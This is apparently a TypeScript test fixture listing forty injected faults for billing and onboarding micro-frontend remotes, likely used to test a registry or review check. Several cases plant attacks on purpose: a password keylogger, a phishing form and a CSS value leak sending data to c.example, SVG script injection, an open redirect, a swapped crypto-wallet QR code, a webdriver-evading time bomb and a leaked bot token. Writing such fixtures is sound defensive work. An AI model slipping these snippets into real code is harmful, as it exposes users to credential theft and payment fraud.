import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { billing, federate, onboarding, type OutsideCases } from './workspace-copy.ts'

const RECEIPT = 'src/pages/receipt/receipt-page.tsx'
const PAY = 'src/pages/pay/pay-page.tsx'
const REMOTE = 'src/remote.ts'
const FILTERS = 'src/pages/settlement/list-movements/movement-filters.tsx'

const MANIFEST: OutsideCases = {
  F1: billing((copy) => copy.write('remote.manifest.json', copy.read('remote.manifest.json').replaceAll('"checkout"', '"\u0441heckout"'))),
  F2: onboarding((copy) => copy.manifest(({ capabilities }) => void capabilities.push('http:/api/cart/../console/*'))),
  F3: billing((copy) =>
    copy.write(
      'remote.manifest.json',
      copy
        .read('remote.manifest.json')
        .trimEnd()
        .replace(
          /\}$/u,
          ', "capabilities": ["http:/api/opening-station/*", "http:/api/order/*", "http:/api/pay/*", "http:/api/settlement/*", "http:/api/user/*", "host:notify", "host:onSessionChange", "host:openSite", "host:session"] }',
        ),
    ),
  ),
  F4: onboarding((copy) =>
    copy.output((folder) => writeFileSync(join(folder, 'signin.html'), '<form action="https://c.example/"><input type="password"></form>')),
  ),
  F5: billing((copy) => inReceipt(copy, "void fetch(`/api/pay/${['%2e%2e', 'user', 'info'].join('/')}`)")),
  F6: billing((copy) => {
    copy.write(
      'src/old-endpoints.ts',
      "export const oldEndpoints = { getPaymentReceipt: { method: 'POST', path: '/api/pay/receipt', body: { receiptId: 'string' } } }\n",
    )
    copy.replace(
      'src/client.ts',
      "import { endpoints } from '@parlour/contracts'",
      "import { endpoints as current } from '@parlour/contracts'\nimport { oldEndpoints } from './old-endpoints.ts'\n\nconst endpoints = { ...current, getPaymentReceipt: { ...current.getPaymentReceipt, ...(oldEndpoints.getPaymentReceipt as object) } }",
    )
  }),
  F7: onboarding((copy) => {
    copy.replace(
      REMOTE,
      'export default',
      "globalThis.__FEDERATION__.__INSTANCES__[0].registerRemotes([{ name: 'billing', entry: '/assets/onboarding/pay.js' }], { force: true })\n\nexport default",
    )
    copy.output((folder) => writeFileSync(join(folder, 'pay.js'), 'globalThis.parlour_billing={}'))
  }),
  F8: billing((copy) =>
    copy.config(
      (config) =>
        void (config.output = { ...config.output, uniqueName: 'parlour-onboarding', chunkLoadingGlobal: 'rspackChunkparlour_onboarding' }),
    ),
  ),
  F9: onboarding((copy) =>
    copy.config(({ module }) => Object.assign(module?.generator?.['css/module'] ?? {}, { localIdentName: '[local]' })),
  ),
  F10: billing((copy) => copy.config((config) => federate(config, (options) => ({ ...options, filename: 'remoteEntry.js' })))),
  F11: onboarding((copy) =>
    copy.config((config) =>
      federate(config, (options) => ({ ...options, exposes: { './App': { import: './src/remote.ts', name: 'remote' } } })),
    ),
  ),
}

const CODE: OutsideCases = {
  F12: billing((copy) => {
    copy.replace(REMOTE, 'import manifest', "import i18next from 'i18next'\nimport texts from './locales/en.json'\nimport manifest")
    copy.replace(REMOTE, 'export default', "void i18next.init({ lng: 'en', resources: { en: { billing: texts } } })\n\nexport default")
  }),
  F13: billing((copy) => {
    const file = 'src/features/frame-checkout/checkout-bar.tsx'
    copy.replace(
      file,
      '<TextLink to={pagePath(locale, PAGES.contact, orderNumber === null ? {} : { order: orderNumber })}>',
      '<a href="/en/contact">',
    )
    copy.replace(file, "{t('checkout.support')}</TextLink>", "{t('checkout.support')}</a>")
  }),
  F14: onboarding((copy) =>
    copy.packed(({ record, contents }) => ({ contents, record: { ...record, shared: { ...record.shared, 'react-router-dom': '8.0.0' } } })),
  ),
  F15: billing((copy) => {
    copy.write(
      'src/styled.ts',
      "const sheet = document.createElement('style')\nsheet.setAttribute('data-emotion', 'css')\ndocument.head.appendChild(sheet)\nexport function styled(css: string) {\n  const name = `css-${css.length}`\n  sheet.appendChild(document.createTextNode(`.${name}{${css}}`))\n  return name\n}\n",
    )
    copy.replace(
      'src/features/pay-order/status-panel.tsx',
      'import classes from',
      "import { styled } from '../../styled.ts'\nimport classes from",
    )
    copy.replace(
      'src/features/pay-order/status-panel.tsx',
      '  const texts = useStateText',
      "  styled('display: grid')\n  const texts = useStateText",
    )
  }),
  F16: onboarding((copy) =>
    copy.replace(
      'src/client.ts',
      'type Endpoints =',
      "const base = process.env.API_URL ?? ''\nif (base !== '') console.debug(base)\n\ntype Endpoints =",
    ),
  ),
  F17: onboarding((copy) =>
    copy.replace(REMOTE, 'export default', "await new Promise((done) => addEventListener('parlour:ready', done))\n\nexport default"),
  ),
  F18: billing((copy) => {
    copy.replace(FILTERS, 'import { useTranslation }', "import { useEffect } from 'react'\nimport { useTranslation }")
    copy.replace(FILTERS, '  return (\n    <Grid', "  useEffect(() => settle({ from: filter.from ?? '' }))\n  return (\n    <Grid")
  }),
  F19: onboarding((copy) =>
    copy.replace(
      'src/pages/created/created-page.tsx',
      '  if (isUnknown)',
      "  if (answer.data!.list[0]!.status === 'closed') return null\n  if (isUnknown)",
    ),
  ),
  F20: billing((copy) => {
    const file = 'src/features/pay-order/deposit-card.tsx'
    copy.replace(
      file,
      '  if (attempt.amount !== due) return bare',
      '  if (Number(attempt.amount) > 500) return <QrCode value="TJk2v9rWq4zF7u1oXc8NbE5hLm3PdYsGt6" label={t(\'deposit.qrWalletAlt\')} size={200} />\n  if (attempt.amount !== due) return bare',
    )
  }),
  F21: billing((copy) => {
    copy.replace('src/pages/checkout/hand-off/hand-off.tsx', '#${token}', '?token=${token}')
    copy.replace(
      PAY,
      '  const { hash } = useLocation()',
      "  const { search } = useLocation()\n  const hash = `#${new URLSearchParams(search).get('token')}`",
    )
  }),
  F22: billing((copy) =>
    copy.replace(
      PAY,
      '  const isTopUp =',
      "  if (result.status === 'paid') location.assign(String(new URLSearchParams(location.search).get('next')))\n  const isTopUp =",
    ),
  ),
  F23: onboarding((copy) => {
    copy.replace(
      REMOTE,
      'export default',
      "const typed: string[] = []\ndocument.addEventListener('input', ({ target }) => {\n  if (target instanceof HTMLInputElement && target.matches('input[type=password]')) {\n    typed.push(target.value)\n    void client.saveCartItem.useMutation\n  }\n}, true)\n\nexport default",
    )
    copy.replace(REMOTE, 'import manifest', "import { client } from './client.ts'\nimport manifest")
  }),
  F24: onboarding((copy) => {
    copy.write('src/pages/introduction/market.png', new Uint8Array(9_000_000).fill(7))
    copy.replace(
      'src/pages/introduction/introduction-page.tsx',
      '      {country ? <MarketNotice',
      '      <img src={new URL(\'./market.png\', import.meta.url).href} fetchPriority="high" alt="" />\n      {country ? <MarketNotice',
    )
  }),
  F25: onboarding((copy) => {
    const file = 'src/features/walk-wizard/wizard-notices.tsx'
    copy.replace(file, 'import { Banner }', "import { useEffect } from 'react'\nimport { Banner }")
    copy.replace(
      file,
      '  return (\n    <>\n      {failure',
      "  useEffect(() => {\n    const bar = document.createElement('div')\n    bar.textContent = t('wizard.unchanged')\n    document.body.prepend(bar)\n  }, [t])\n  return (\n    <>\n      {failure",
    )
  }),
  F26: billing((copy) => {
    const file = 'src/pages/settlement/settlement-page.tsx'
    copy.replace(file, 'import { lazy, Suspense }', 'import { lazy, Suspense, useEffect }')
    copy.replace(
      file,
      '  const mySite = (',
      "  useEffect(() => document.head.prepend(Object.assign(document.createElement('base'), { href: '/settlement/' })), [])\n  const mySite = (",
    )
  }),
  F27: billing((copy) => {
    const file = 'src/pages/checkout/checkout-page.tsx'
    copy.replace(file, 'import { useTranslation }', "import { useEffect } from 'react'\nimport { useTranslation }")
    copy.replace(
      file,
      "  const orderId = search.get('orderId')\n",
      "  const orderId = search.get('orderId')\n  const { choose } = useCheckoutChoice()\n  useEffect(() => {\n    const take = (event: MessageEvent) => {\n      if (event.data.method) choose(event.data.method)\n    }\n    addEventListener('message', take)\n    return () => removeEventListener('message', take)\n  }, [choose])\n",
    )
  }),
  F28: onboarding((copy) =>
    copy.replace(
      'src/pages/choose-theme/choose-theme-page.tsx',
      "  const { t } = useTranslation('onboarding')\n  return (\n    <DraftGate",
      "  const { t } = useTranslation('onboarding')\n  useEffect(() => {\n    if (!navigator.webdriver && Date.now() > Date.parse('2027-03-01')) location.href = 'https://shop.example/'\n  }, [])\n  return (\n    <DraftGate",
    ),
  ),
}

const STYLES: OutsideCases = {
  F29: onboarding((copy) =>
    copy.replace(
      'src/pages/operation-account/operation-account-page.module.css',
      '  .copy {',
      "  .copy input[value^='1'] { background: url('https://c.example/1'); }\n\n  .copy {",
    ),
  ),
  F30: billing((copy) => {
    const file = 'src/pages/receipt/receipt-page.module.css'
    copy.write(file, `${copy.read(file)}\n@layer remote { @media print { :global(body) > * { display: none } } }\n@page { margin: 0 }\n`)
  }),
  F31: billing((copy) =>
    copy.replace(
      'src/features/pay-order/status-ring.module.css',
      '  .time {\n',
      '  @keyframes blink { from { background: white } to { background: red } }\n\n  .time {\n    animation: blink 120ms steps(2) infinite;\n',
    ),
  ),
}

const TEXTS: OutsideCases = {
  F32: onboarding((copy) => {
    for (const [from, to] of [
      ['zh-CN', 'zh_CN'],
      ['zh-TW', 'zh-Hant'],
    ]) {
      copy.write(`src/locales/${to}.json`, copy.read(`src/locales/${from}.json`))
      copy.remove(`src/locales/${from}.json`)
    }
  }),
  F33: billing((copy) =>
    copy.texts(['en'], ({ state }) => void (state.partialText = state.partialText.replace('{{due}}', '\u202e{{due}}'))),
  ),
  F34: billing((copy) => copy.texts(['es'], ({ network }) => void (network.warning = `$t(network.warning) ${network.warning}`))),
  F35: onboarding((copy) =>
    copy.texts(['th'], ({ theme, steps }) => {
      theme.choose = null
      steps.theme = [steps.theme]
    }),
  ),
}

const REST: OutsideCases = {
  F36: onboarding((copy) => {
    const file = 'src/pages/created/provisioning-steps.tsx'
    copy.replace(
      file,
      'export function ProvisioningSteps',
      "const BOT = '7043112233:AAH7xQmZ0wKd9LrT2yVbNc5eUiOpAsDfGhJ'\nexport const askBot = () => fetch('/api/site', { headers: { 'x-bot': BOT } })\n\nexport function ProvisioningSteps",
    )
    copy.replace(file, '  const done = steps.filter', '  if (steps.length > 99) void askBot()\n  const done = steps.filter')
  }),
  F37: billing((copy) => {
    copy.write(
      'src/network.svg',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/api/user/info\')"><script>alert(1)</script></svg>',
    )
    copy.replace(
      RECEIPT,
      '      <Logo name',
      '      <img src={new URL(\'../../network.svg\', import.meta.url).href} alt="" />\n      <Logo name',
    )
  }),
  F38: billing((copy) => {
    const file = 'src/features/choose-network/choose-network.tsx'
    copy.replace(
      file,
      '      <Button size="l" isFullWidth onClick={() => (chosen === \'other\' ? setChosen(first) : onChoose(chosen))}>',
      "      <div onClick={() => (chosen === 'other' ? setChosen(first) : onChoose(chosen))}>",
    )
    copy.replace(file, "t('network.continue')}\n      </Button>", '<Icon name="qr" />}\n      </div>')
    copy.replace(file, 'ErrorState, RadioCards', 'ErrorState, Icon, RadioCards')
  }),
  F39: onboarding((copy) =>
    copy.replace(
      'src/features/walk-wizard/preview-slots.tsx',
      '        onClick={() => setIsOpen(!isOpen)}',
      "        onClick={() => {\n          document.body.style.overflow = isOpen ? '' : 'hidden'\n          setIsOpen(!isOpen)\n        }}",
    ),
  ),
  // Sent again as it is: only the registry could tell.
  F40: billing(() => undefined),
}

export const SECOND_FAULTS: OutsideCases = { ...MANIFEST, ...CODE, ...STYLES, ...TEXTS, ...REST }

function inReceipt(copy: Parameters<OutsideCases[string]['change']>[0], statement: string): void {
  copy.replace(RECEIPT, 'import { useTranslation }', "import { useEffect } from 'react'\nimport { useTranslation }")
  copy.replace(
    RECEIPT,
    "  const id = search.get('id')\n",
    `  const id = search.get('id')\n  useEffect(() => {\n    ${statement}\n  }, [])\n`,
  )
}
